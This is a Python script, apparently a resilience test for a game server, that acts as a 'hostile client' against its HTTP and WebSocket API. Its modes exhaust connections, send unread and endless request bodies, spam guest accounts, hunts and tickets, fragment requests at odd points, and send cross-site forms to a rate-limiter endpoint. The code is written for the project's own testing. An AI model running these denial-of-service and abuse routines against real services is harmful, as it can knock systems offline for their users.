"""One hostile client from one address (from HOST's network's .11 to .17 in `memory`), without an account but for `details`, which need one. Bounded in time; prints one line of what it reached.

usage: attack.py ATTACK HOST PORT SECONDS [GAME [TOKEN]]
    idle         as many connections as the process may open, held: silent, registered in a world, waiting polls, half requests
    late-pages   512 callers ask for the last frame of GAME, again and again
    unread       1,500 connections that ask for GAME's frames fifty times and read no answer
    details      64 callers ask for GAME whole
    hunts        guests make hunts
    worlds       guests make hunts and walk into each, so that it is loaded
    memory       guests of six addresses make tiny hunts and leave a silent mover in each; pairs of a seventh are matched, and one of each walks in
    tables       guests open stories
    tickets      guests take tickets
    segments     requests and WebSocket upgrades cut into segments at odd places
    configure    forms that a page of another site could send to the limiter
"""
import asyncio, base64, collections, json, os, random, resource, sys, time


def upgrade(host, path="/api/worlds/plaza/socket"):
    return (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
            f"Sec-WebSocket-Key: {base64.b64encode(os.urandom(16)).decode()}\r\n\r\n").encode()


def post(host, path, body, token=None, kind="application/json", more=""):
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    authorization = f"Authorization: Bearer {token}\r\n" if token else ""
    return (f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: {kind}\r\n{authorization}{more}"
            f"Content-Length: {len(data)}\r\n\r\n").encode() + data


class Attack:
    def __init__(self, host, port, seconds, game, token):
        self.host, self.port, self.game, self.token = host, port, game, token
        self.until = time.monotonic() + seconds
        self.reached = collections.Counter()
        self.held = []

    def goes_on(self):
        return time.monotonic() < self.until

    async def connect(self, source=None):
        source = (source, 0) if source else None
        return await asyncio.wait_for(asyncio.open_connection(self.host, self.port, local_addr=source), 5)

    async def answer(self, reader):
        head = (await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)).decode("latin-1").lower()
        status = int(head.split(" ", 2)[1])
        length = next((int(line.split(":")[1]) for line in head.split("\r\n") if line.startswith("content-length:")), None)
        if length is None and "chunked" in head:
            body = b""
            while size := int(await asyncio.wait_for(reader.readline(), 60), 16):
                body = await asyncio.wait_for(reader.readexactly(size + 2), 60)
            await reader.readline()
        else:
            body = await asyncio.wait_for(reader.readexactly(length or 0), 60)
        return status, body

    async def forever(self, once):
        """Does `once(reader, writer)` over one connection again and again, over a new one when it breaks."""
        while self.goes_on():
            try:
                reader, writer = await self.connect()
            except (OSError, TimeoutError) as error:
                self.reached[type(error).__name__] += 1
                await asyncio.sleep(0.05)
                continue
            try:
                while self.goes_on():
                    await once(reader, writer)
            except (OSError, TimeoutError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, ValueError, IndexError) as error:
                self.reached[type(error).__name__] += 1
            finally:
                writer.close()

    async def asking(self, request):
        async def once(reader, writer):
            writer.write(request() if callable(request) else request)
            status, _ = await self.answer(reader)
            self.reached[status] += 1
            if status in (429, 503):
                await asyncio.sleep(0.05)
        await self.forever(once)

    async def many(self, count, worker):
        await asyncio.gather(*(worker() for _ in range(count)))

    async def idle(self):
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        at_most = min(19_436, hard - 64)
        hello = bytes.fromhex("040a020801")
        first = [b"", hello, upgrade(self.host), b"GET /api/games HTTP/1.1\r\nHost: x\r\n",
                 f"GET /api/games HTTP/1.1\r\nHost: {self.host}\r\n\r\n".encode(), hello + bytes.fromhex("091207") + b"\x0a\x05plaza"]

        async def hold(kind):
            while self.goes_on():
                try:
                    reader, writer = await self.connect()
                    writer.write(first[kind % len(first)])
                    self.reached["opened"] += 1
                    self.reached["most held"] = max(self.reached["most held"], self.reached["held"] + 1)
                    self.reached["held"] += 1
                    try:
                        while self.goes_on() and await asyncio.wait_for(reader.read(4096), max(0.1, self.until - time.monotonic())):
                            pass
                    except TimeoutError:
                        pass
                    self.reached["held"] -= 1
                    writer.close()
                except (OSError, TimeoutError) as error:
                    self.reached[type(error).__name__] += 1
                await asyncio.sleep(random.uniform(0.5, 1.5))

        tasks = []
        for kind in range(at_most):
            if not self.goes_on():
                break
            tasks.append(asyncio.create_task(hold(kind)))
            if kind % 200 == 199:
                await asyncio.sleep(0.05)
        await asyncio.gather(*tasks)

    async def late_pages(self):
        request = f"GET /api/games/{self.game}/frames?offset=4999 HTTP/1.1\r\nHost: {self.host}\r\n\r\n".encode()
        await self.many(512, lambda: self.asking(request))

    async def details(self):
        request = (f"GET /api/games/{self.game}/details HTTP/1.1\r\nHost: {self.host}\r\nAuthorization: Bearer {self.token}\r\n"
                   "\r\n").encode()
        await self.many(64, lambda: self.asking(request))

    async def unread(self):
        request = f"GET /api/games/{self.game}/frames?offset=0&limit=100 HTTP/1.1\r\nHost: {self.host}\r\n\r\n".encode() * 50

        async def once(reader, writer):
            # No byte beyond the first is taken from the socket.
            writer.transport.pause_reading()
            writer.write(request)
            self.reached["asked"] += 1
            await asyncio.sleep(max(0.0, min(20.0, self.until - time.monotonic())))
            raise ValueError("asked again over a new connection")
        await self.many(1500, lambda: self.forever(once))

    async def bodies(self):
        """Bodies of 2 MiB that do not end: without a token, and batches with one."""
        length = 2 * 1024 * 1024
        bearer = f"Authorization: Bearer {self.token}\r\n" if self.token else ""
        heads = [f"POST {path} HTTP/1.1\r\nHost: {self.host}\r\nContent-Type: application/json\r\n{more}Content-Length: {length}\r\n\r\n"
                 for path, more in (("/api/stories/guests", ""), ("/api/games/batch", bearer))]

        async def once(reader, writer):
            writer.write(random.choice(heads).encode() + b'{"name":"' + b"a" * (length - 100))
            self.reached["sent"] += 1
            status, _ = await asyncio.wait_for(self.answer(reader), max(0.1, self.until - time.monotonic()))
            self.reached[status] += 1
            await asyncio.sleep(0.05)
            raise ValueError("asked again over a new connection")
        await self.many(250, lambda: self.forever(once))

    async def guests(self, then):
        """Comes in as a new guest whenever the last one is refused, and does `then(reader, writer, token)`."""
        token = None

        async def once(reader, writer):
            nonlocal token
            if token is None:
                writer.write(post(self.host, "/api/stories/guests", {"name": "Mallory"}))
                status, body = await self.answer(reader)
                self.reached[f"guests {status}"] += 1
                if status != 201:
                    await asyncio.sleep(0.05)
                    return
                token = json.loads(body)["token"]
            if not await then(reader, writer, token):
                token = None
        await self.forever(once)

    def making(self, name, path, body):
        async def then(reader, writer, token):
            writer.write(post(self.host, path, body, token))
            status, _ = await self.answer(reader)
            self.reached[f"{name} {status}"] += 1
            return status in (200, 201)
        return lambda: self.guests(then)

    async def hunts(self):
        await self.many(16, self.making("hunts", "/api/hunts", {}))

    async def tables(self):
        await self.many(16, self.making("tables", "/api/stories/games", {}))

    async def tickets(self):
        await self.many(16, self.making("tickets", "/api/hunts/tickets", {"players": 16, "wait_ms": 600_000}))

    async def worlds(self):
        async def then(reader, writer, token):
            writer.write(post(self.host, "/api/hunts", {"width": 1000, "height": 1000, "admission": "everybody"}, token))
            status, body = await self.answer(reader)
            self.reached[f"hunts {status}"] += 1
            if status not in (200, 201):
                return False
            name = json.loads(body)["name"]
            _, walker = await self.connect()
            walker.write(bytes.fromhex("040a020801"))
            inner = b"\x0a" + bytes([len(name)]) + name.encode()
            frame = b"\x12" + bytes([len(inner)]) + inner
            walker.write(bytes([len(frame)]) + frame)
            self.held.append(walker)
            self.reached["entered"] += 1
            return True
        await self.many(16, lambda: self.guests(then))

    async def ask(self, source, method, path, token=None, body=None):
        reader, writer = await self.connect(source)
        authorization = f"Authorization: Bearer {token}\r\n" if token else ""
        writer.write(f"GET {path} HTTP/1.1\r\nHost: {self.host}\r\n{authorization}\r\n".encode() if method == "GET"
                     else post(self.host, path, body, token))
        status, answer = await self.answer(reader)
        writer.close()
        return status, json.loads(answer)

    async def walk_in(self, source, name, token):
        reader, writer = await self.connect(source)
        first = upgrade(self.host, f"/api/worlds/{name}/socket")[:-2] + f"Authorization: Bearer {token}\r\n\r\n".encode()
        texts = [b'{"hello":{"version":1}}', b'{"register":{}}']
        writer.write(first + b"".join(b"\x81" + bytes([0x80 | len(text)]) + bytes(4) + text for text in texts))
        self.held.append((reader, writer))
        self.reached["entered"] += 1

    async def memory(self):
        network = self.host.rsplit(".", 1)[0]

        async def hold(source):
            while self.goes_on():
                status, guest = await self.ask(source, "POST", "/api/stories/guests", body={"name": "Mallory"})
                for _ in range(8 if status == 201 else 0):
                    hunt = {"width": 8, "height": 8, "chests": 1, "power_ups": 0}
                    status, made = await self.ask(source, "POST", "/api/hunts", guest["token"], hunt)
                    self.reached[f"hunts {status}"] += 1
                    if status != 201:
                        break
                    await self.walk_in(source, made["name"], guest["token"])
                if status != 201:
                    await asyncio.sleep(1)

        async def pair(source, region):
            wish = {"players": 2, "wait_ms": 20_000, "region": region}
            guests = [await self.ask(source, "POST", "/api/stories/guests", body={"name": "Mallory"}) for _ in range(2)]
            tickets = [await self.ask(source, "POST", "/api/hunts/tickets", guest["token"], wish) for _, guest in guests]
            _, ticket = await self.ask(source, "GET", f"/api/hunts/tickets/{tickets[0][1]['id']}?wait=5s", guests[0][1]["token"])
            self.reached[f"tickets {ticket['state']}"] += 1
            if "hunt" in ticket:
                await self.walk_in(source, ticket["hunt"], guests[0][1]["token"])

        async def match(source):
            for number in range(64):
                if self.goes_on():
                    await pair(source, f"r{number}")

        async def tried(once):
            try:
                await once
            except (OSError, TimeoutError, asyncio.IncompleteReadError, ValueError, KeyError) as error:
                self.reached[type(error).__name__] += 1

        holders = [tried(hold(f"{network}.{host}")) for host in range(11, 17)]
        await asyncio.gather(*holders, tried(match(f"{network}.17")))
        await asyncio.sleep(max(0.0, self.until - time.monotonic()))

    async def segments(self):
        async def worker():
            while self.goes_on():
                try:
                    reader, writer = await self.connect()
                    first = post(self.host, "/api/limits/check", b"x" * random.choice([20_000, 100, 0]))
                    stream = first + upgrade(self.host) + os.urandom(random.choice([31_000, 0, 200]))
                    at = 0
                    if random.random() < 0.5:
                        # The last segment of the first request carries the beginning of the second one.
                        at = len(first) + random.choice([1, 100, 150])
                        writer.write(stream[:at])
                        await asyncio.sleep(0.01)
                    while at < len(stream):
                        size = random.choice([1, 99, 100, 1_460, 8_192, 20_100])
                        writer.write(stream[at:at + size])
                        await writer.drain()
                        await asyncio.sleep(0)
                        at += size
                    await asyncio.wait_for(reader.read(65_536), 2)
                    self.reached["streams"] += 1
                    writer.close()
                except (OSError, TimeoutError) as error:
                    self.reached[type(error).__name__] += 1
        await self.many(16, worker)

    async def configure(self):
        form = b"window_seconds=1&request_per_window=1"
        foreign = "Origin: http://elsewhere.example\r\nSec-Fetch-Site: cross-site\r\n"
        request = post(self.host, "/api/v1/configure", form, kind="application/x-www-form-urlencoded", more=foreign)
        await self.many(8, lambda: self.asking(request))


if __name__ == "__main__":
    name, host, port, seconds = sys.argv[1:5]
    attack = Attack(host, int(port), float(seconds), *(sys.argv[5:7] + ["", ""])[:2])
    asyncio.run(getattr(attack, name.replace("-", "_"))())
    print(", ".join(f"{what}: {count:,}" for what, count in sorted(attack.reached.items(), key=str) if what != "held"))
